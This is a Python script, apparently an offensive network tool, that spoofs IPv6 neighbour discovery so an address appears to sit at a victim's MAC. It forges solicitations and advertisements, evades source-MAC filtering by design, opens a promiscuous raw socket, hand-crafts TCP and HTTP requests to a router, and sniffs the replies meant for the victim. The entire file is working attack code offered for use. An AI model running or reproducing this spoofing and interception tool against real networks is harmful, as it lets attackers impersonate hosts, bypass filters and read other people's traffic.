"""Asks the router from an address whose replies go to somebody else, and reads them on the way.

usage: sniff.py ADDRESS ROUTER VICTIM_MAC PATH, as root, on a link that floods what is for the victim.

Neighbour discovery is told that ADDRESS is at the victim's MAC address, in the option alone: every
frame has our own MAC address as its source, so no filter of source MAC addresses stops it. Prints
the status of each reply that it read; ends with 0.
"""

import socket
import struct
import sys
import time

ATTEMPTS = 5
ANSWER_SECONDS = 1.5
SYN, PUSH_ACK, ACK = 2, 24, 16

address, router = (socket.inet_pton(socket.AF_INET6, text) for text in sys.argv[1:3])
victim = bytes.fromhex(sys.argv[3].replace(":", ""))
request = f"GET {sys.argv[4]} HTTP/1.1\r\nHost: x\r\n\r\n".encode()
with open("/sys/class/net/eth0/address") as file:
    own = bytes.fromhex(file.read().strip().replace(":", ""))

link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
link.bind(("eth0", 0))
link.settimeout(0.5)
# SOL_PACKET, PACKET_ADD_MEMBERSHIP, PACKET_MR_PROMISC.
promiscuous = struct.pack("iHH8s", socket.if_nametoindex("eth0"), 1, 0, b"")
link.setsockopt(263, 1, promiscuous)


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def send(mac, target, protocol, body, at, hops):
    pseudo = address + target + struct.pack("!II", len(body), protocol)
    body = body[:at] + struct.pack("!H", checksum(pseudo + body)) + body[at + 2 :]
    head = struct.pack("!IHBB", 6 << 28, len(body), protocol, hops) + address + target
    link.send(mac + own + b"\x86\xdd" + head + body)


def frames(seconds):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            frame = link.recv(65536)
        except TimeoutError:
            continue
        if frame[12:14] == b"\x86\xdd" and frame[6:12] != own:
            yield frame


def solicit():
    multicast = socket.inet_pton(socket.AF_INET6, "ff02::1:ff00:0")[:13] + router[13:]
    body = struct.pack("!BBHI", 135, 0, 0, 0) + router + b"\x01\x01" + victim
    send(b"\x33\x33" + multicast[12:], multicast, 58, body, 2, 255)
    for frame in frames(3):
        if frame[20] == 58 and frame[54] == 136 and frame[22:38] == router:
            return frame[6:12]
    sys.exit("the router does not say where it is")


def advertise(mac):
    body = struct.pack("!BBHI", 136, 0, 0, 0x60000000) + address + b"\x02\x01" + victim
    send(mac, router, 58, body, 2, 255)


def tcp(mac, port, sequence, acknowledged, flags, data=b""):
    head = struct.pack(
        "!HHIIBBHHH", port, 80, sequence, acknowledged, 5 << 4, flags, 65000, 0, 0
    )
    send(mac, router, 6, head + data, 16, 64)


def attempt(mac, port):
    tcp(mac, port, 1000, 0, SYN)
    accepted = False
    for frame in frames(ANSWER_SECONDS):
        if frame[20] == 58 and frame[54] == 135:
            advertise(mac)
        if frame[20] != 6 or frame[38:54] != address:
            continue
        _, to, sequence, _, offset, flags = struct.unpack("!HHIIBB", frame[54:68])
        if to != port:
            continue
        if flags & 0x12 == 0x12 and not accepted:
            accepted = True
            tcp(mac, port, 1001, sequence + 1, ACK)
            tcp(mac, port, 1001, sequence + 1, PUSH_ACK, request)
        data = frame[54 + (offset >> 4) * 4 :]
        if data.startswith(b"HTTP/1.1 "):
            return data.decode("latin1").split("\r\n", 1)[0]
    return "accepted, and nothing" if accepted else "nothing"


router_mac = solicit()
for number in range(ATTEMPTS):
    print(attempt(router_mac, 40000 + number), flush=True)
